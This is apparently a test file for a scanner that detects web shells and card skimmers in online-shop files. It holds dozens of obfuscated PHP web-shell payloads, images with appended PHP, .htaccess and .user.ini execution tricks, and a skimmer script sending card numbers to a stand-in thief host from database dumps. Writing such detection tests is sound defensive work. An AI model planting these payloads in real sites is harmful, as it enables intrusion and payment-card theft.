import { expect, test } from 'vitest';
import { judgeFile } from './judge-file.ts';

// The sign § is left out before a text is read, so that no file of the project holds a working shell.
const plain = (text: string) => text.replaceAll('§', '');
const judge = (path: string, text: string | Buffer) =>
  judgeFile({ path, bytes: typeof text === 'string' ? Buffer.from(plain(text), 'latin1') : text, linesBefore: 0 }).findings;
const serious = (path: string, text: string | Buffer) =>
  judge(path, text).filter(({ severity }) => ['medium', 'high', 'critical'].includes(severity));
const b64 = (text: string) => Buffer.from(plain(text)).toString('base64');
const chunks = (text: string, size: number) => (b64(text).match(new RegExp(`.{1,${size}}`, 'g')) ?? []).map((part) => `'${part}'`);
const xored = (text: string, key: string) =>
  Buffer.from([...plain(text)].map((sign, at) => sign.charCodeAt(0) ^ key.charCodeAt(at % key.length))).toString('base64');
const hex = (text: string) => Buffer.from(plain(text)).toString('hex');
const SHELL = 'ev§al($_PO§ST["x"]);';

const php: Readonly<Record<string, string>> = {
  'base64 in pieces of an array': `$p = array(${chunks(SHELL, 4).join(', ')}); ev§al(base64_dec§ode(implode('', $p)));`,
  'base64 in pieces, put together in a loop': `$p = [${chunks(SHELL, 5).join(', ')}]; $s = ''; foreach ($p as $one) { $s .= $one; } ev§al(base64_dec§ode($s));`,
  'base64 in pieces, by number': `$p = [${chunks(SHELL, 6).join(', ')}]; $s = ''; for ($i = 0; $i < count($p); $i++) { $s = $s . $p[$i]; } $f = 'base64' . '_decode'; ev§al($f($s));`,
  'base64 in pieces of named keys': `$c = ['b' => '${b64(SHELL).slice(10)}', 'a' => '${b64(SHELL).slice(0, 10)}']; ev§al(base64_dec§ode($c['a'] . $c['b']));`,
  'create_function with code of its own': `$f = create_§function('$c', 'ev'.'al($c);'); $f($_PO§ST['a']);`,
  'create_function under another name': `$n = 'create_' . 'function'; $f = $n('', $_REQ§UEST['q']); $f();`,
  'assert through a variable': `$a = 'ass' . 'ert'; $a($_PO§ST['x']);`,
  'assert through a constant': `define('A', 'ass' . 'ert'); $f = A; $f($_COO§KIE['x']);`,
  'assert from letters': `$l = 'tresa'; $a = $l[4] . $l[3] . $l[3] . $l[2] . $l[1] . $l[0]; $a($_PO§ST['x']);`,
  'preg_replace with e': `pre§g_replace('/(.*)/e', $_PO§ST['c'], '');`,
  'preg_replace with e, other signs': `$p = '#.*#' . 'ie'; pre§g_replace($p, $_REQ§UEST['c'], 'a');`,
  'mb_ereg_replace with e': `mb_ereg_§replace('.*', $_REQ§UEST['c'], 'a', 'e');`,
  'extract of what is sent': `extract($_PO§ST); $a($b);`,
  'extract, then code': `@extract($_REQ§UEST); @ev§al($c);`,
  'parse_str of the address': `parse_str($_SERVER['QUERY_STRING'], $q); ev§al($q['a']);`,
  'a variable variable': `$n = '_PO' . 'ST'; $v = $$n; ev§al($v['a']);`,
  'a variable variable in braces': `ev§al(\${'_PO' . 'ST'}['a']);`,
  'through $GLOBALS': `ev§al($GLOBALS['_' . 'PO§ST']['a']);`,
  'a loop of exclusive or': `$d = base64_dec§ode('${xored(SHELL, 'key')}'); $k = 'key'; $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; } ev§al($o);`,
  'a loop of exclusive or with chr': `$d = base64_dec§ode('${xored(SHELL, '\u0007')}'); $o = ''; for ($i = 0; $i < strlen($d); $i++) $o .= chr(ord($d[$i]) ^ 7); ev§al($o);`,
  'a loop over numbers': `$n = [${[...plain(SHELL)].map((sign) => sign.charCodeAt(0) + 3).join(',')}]; $o = ''; foreach ($n as $x) { $o .= chr($x - 3); } ev§al($o);`,
  'array_map of chr': `ev§al(implode('', array_map('chr', [${[...plain(SHELL)].map((sign) => sign.charCodeAt(0)).join(',')}])));`,
  call_user_func: `call_user_func('sys' . 'tem', $_GE§T['c']);`,
  array_walk: `array_walk($_PO§ST, 'ass' . 'ert');`,
  array_filter: `array_filter([$_REQ§UEST['x']], 'ass' . 'ert');`,
  usort: `$e = $_REQ§UEST['e']; usort($_REQ§UEST['a'], $e);`,
  'a reflected function': `$r = new ReflectionFunction('sys' . 'tem'); $r->invoke($_GE§T['c']);`,
  'a function out of the request': `$_GE§T['f']($_GE§T['a']);`,
  'filter_var with a callback': `filter_var($_REQ§UEST['x'], FILTER_CALLBACK, ['options' => 'ass' . 'ert']);`,
  register_shutdown_function: `register_shutdown_function('sys' . 'tem', $_GE§T['c']);`,
  'the body of the request': `ev§al(file_get_contents('php://input'));`,
  'include of the body': `include 'php://' . 'input';`,
  'include of data': `include 'data:text/plain;base64,' . $_GE§T['x'];`,
  'include of a phar in a picture': `include 'phar://' . __DIR__ . '/img/logo.jpg/run.php';`,
  'a header': `$h = apache_request_headers(); ev§al($h['X-Cache']);`,
  'a variable of the environment': `ev§al(getenv('HTTP_X_CACHE'));`,
  'its own tail': `ev§al(gzinflate(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__))); __halt_compiler();x`,
  proc_open: `$p = proc_open($_GE§T['c'], [], $pipes);`,
  'a file by the visitor': `file_put_contents($_PO§ST['n'], base64_dec§ode($_PO§ST['d']));`,
  'fopen and fwrite': `$f = fopen($_GE§T['f'], 'w'); fwrite($f, $_PO§ST['d']); fclose($f);`,
  'an upload anywhere': `copy($_FILES['f']['tmp_name'], $_PO§ST['to']);`,
  'kept in the session': `session_start(); if (isset($_PO§ST['c'])) $_SESSION['c'] = $_PO§ST['c']; ev§al($_SESSION['c']);`,
  'code from a host, cached': `$c = file_get_contents('http://203.0.113.9/a.txt'); file_put_contents('/tmp/.a', $c); include '/tmp/.a';`,
  goto: `goto b; a: ev§al($x); goto c; b: $x = $_PO§ST['x']; goto a; c:`,
  'an invisible hash of a password before it': `if (md5($_COO§KIE['k']) === '0cc175b9c0f1b6a831c399e269772661') { ev§al(base64_dec§ode($_PO§ST['d'])); }`,
  'card data into a picture': `$d = json_encode($_PO§ST['payment']); file_put_contents('media/catalog/x.jpg', base64_encode($d), FILE_APPEND);`,
};

test.each(Object.entries(php))('PHP: %s', (_, code) => {
  expect(serious('shop/a.php', `<?p§hp ${code}`).map(({ rule }) => rule)).not.toEqual([]);
});

const png = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082',
  'hex',
);
const gif = Buffer.from('47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b', 'hex');
const others: Readonly<Record<string, readonly [string, string | Buffer]>> = {
  'a picture with a tail of PHP': ['media/a.png', Buffer.concat([png, Buffer.from(plain(`<?p§hp ${SHELL}`))])],
  'a picture with short tags': ['media/a.gif', Buffer.concat([gif, Buffer.from(plain(`<?= sys§tem($_GE§T["c"]) ?>`))])],
  'a picture that is PHP': ['media/a.jpg', `GIF89a<?p§hp ${SHELL}`],
  'a phar as a picture': ['media/b.jpg', `<?p§hp __HALT_COMPILER(); ?>\r\n\x90\0\0\0\x01\0\0\0\x11\0\0\0\x01\0\0\0\0\0run.php`],
  'a handler for pictures': ['media/.htaccess', 'AddHandler application/x-httpd-php .jpg\n'],
  'a handler of a version': ['media/.htaccess', 'AddHandler application/x-httpd-php74 .html .png\n'],
  'a type for pictures': ['media/.htaccess', '  addtype application/x-httpd-php .png .css\n'],
  'a handler over a socket': [
    '.htaccess',
    '<FilesMatch "\\.jpg$">\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</FilesMatch>\n',
  ],
  'a handler for one picture': ['.htaccess', '<Files "logo.png">\nForceType application/x-httpd-php\n</Files>\n'],
  'an action of its own': ['.htaccess', 'Action run-it /index.php\nAddHandler run-it .jpg\n'],
  'a file before every page': ['.htaccess', 'php_value auto_prepend_file "/tmp/.cache"\n'],
  'a picture before every page': ['.user.ini', 'auto_prepend_file = logo.jpg\n'],
  'data before every page': ['.user.ini', `auto_prepend_file="data:;base64,${b64(`<?p§hp ${SHELL}`)}"\n`],
  'the input before every page': ['.user.ini', 'allow_url_include=1\nauto_prepend_file=php://input\n'],
};
test.each(Object.entries(others))('%s', (_, [path, content]) => {
  expect(serious(path, content).map(({ rule }) => rule)).not.toEqual([]);
});

const thief = `<script>document.querySelector("form").addEventListener("submit",function(){var i=new Image();i.src="https://stat.thief.example/p?d="+btoa(document.querySelector("[name='payment[cc_number]']").value)})</script>`;
const sqlQuoted = (text: string) => text.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('"', '\\"').replaceAll('\n', '\\n');
const databases: Readonly<Record<string, string>> = {
  'escaped by backslashes': `INSERT INTO \`cms_block\` VALUES (1,'footer','${sqlQuoted(thief)}');`,
  'escaped by doubled quotes': `INSERT INTO cms_block VALUES (1,'footer','${thief.replaceAll("'", "''")}');`,
  'as a number in hex': `INSERT INTO cms_block VALUES (1,'footer',0x${hex(thief)});`,
  'as X and a text in hex': `INSERT INTO cms_block VALUES (1,'footer',X'${hex(thief)}');`,
  'core_config_data of Magento': `INSERT INTO \`core_config_data\` VALUES (17,'default',0,'design/footer/absolute_footer','${sqlQuoted('<script src="https://mage-cdn.thief.example/jquery.min.js"></script>')}');`,
  'core_config_data with code in a picture': `INSERT INTO core_config_data VALUES (17,'default',0,'design/head/includes','${sqlQuoted(`<img src=x onerror="ev§al(atob('${b64('fetch("//thief.example/"+document.cookie)')}'))">`)}');`,
  'an option of WordPress': `INSERT INTO \`wp_options\` VALUES (91,'widget_custom_html','${sqlQuoted(`a:1:{i:2;a:1:{s:7:"content";s:${thief.length}:"${thief}";}}`)}','yes');`,
  'an option of WordPress with packed code': `INSERT INTO wp_options VALUES (92,'ihaf_insert_header','${sqlQuoted(`<script>ev§al(String.fromCharCode(${[...thief.slice(8, -9)].map((sign) => sign.charCodeAt(0)).join(',')}))</script>`)}','yes');`,
  'a setting in JSON': `INSERT INTO system_config VALUES ('{"value":"${thief.replaceAll('"', '\\\\"').replaceAll('/', '\\\\/')}"}');`,
  'an export as CSV': `id,content\n1,"${thief.replaceAll('"', '""')}"\n`,
};
test.each(Object.entries(databases))('a database: %s', (_, text) => {
  expect(judge('dump.sql', text).map(({ rule }) => rule)).not.toEqual([]);
});

const clean: Readonly<Record<string, readonly [string, string | Buffer]>> = {
  'a table of translations in pieces': ['a.php', `<?php $p = ['aGVs', 'bG8=']; echo base64_decode(implode('', $p));`],
  'extract of what a controller set': ['a.php', '<?php function render($file, array $vars) { extract($vars, EXTR_SKIP); include $file; }'],
  'parse_str of an address': ['a.php', "<?php parse_str(parse_url($url, PHP_URL_QUERY), $q); echo htmlspecialchars($q['page']);"],
  'variable variables of names': [
    'a.php',
    "<?php foreach (['title', 'text'] as $n) { $$n = trim($_POST[$n]); } echo htmlspecialchars($title);",
  ],
  'exclusive or of a checksum': [
    'a.php',
    '<?php $c = 0; for ($i = 0; $i < strlen($d); $i++) { $c = ($c << 1) ^ ord($d[$i]); } return $c & 0xffff;',
  ],
  'array_map of chr': ['a.php', "<?php $bom = implode('', array_map('chr', [0xEF, 0xBB, 0xBF])); return ltrim($text, $bom);"],
  'a reflected function': [
    'a.php',
    '<?php $r = new ReflectionFunction($callback); return $r->invokeArgs($this->resolve($r->getParameters()));',
  ],
  'a phar of a tool': ['a.php', "<?php require 'phar://composer.phar/src/bootstrap.php';"],
  'usort by a closure': ['a.php', '<?php usort($rows, fn($a, $b) => $a["n"] <=> $b["n"]);'],
  'proc_open of a tool': ['a.php', "<?php $p = proc_open(['convert', '-version'], $spec, $pipes);"],
  'a setting of a version': [
    '.htaccess',
    'AddHandler application/x-httpd-php82 .php\n<FilesMatch "\\.php$">\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</FilesMatch>\n',
  ],
  'a setting of types': ['.htaccess', 'AddType image/svg+xml .svg\nAddType application/javascript .js\nphp_value auto_prepend_file none\n'],
  'limits of PHP': ['.user.ini', 'memory_limit = 512M\nauto_prepend_file = /var/www/shop/wordfence-waf.php\n'],
  'a picture': ['a.png', png],
  'a script of measurements in a setting': [
    'dump.sql',
    `INSERT INTO core_config_data VALUES (1,'default',0,'design/head/includes','<script async src=\\"https://www.googletagmanager.com/gtag/js?id=G-1\\"></script>');`,
  ],
  'pictures as hex': ['dump.sql', `INSERT INTO files VALUES (1,0x${png.toString('hex')}),(2,X'${gif.toString('hex')}');`],
};
test.each(Object.entries(clean))('clean: %s', (_, [path, content]) => {
  expect(
    judge(path, content)
      .filter(({ severity }) => ['high', 'critical'].includes(severity))
      .map(({ rule }) => rule),
  ).toEqual([]);
});
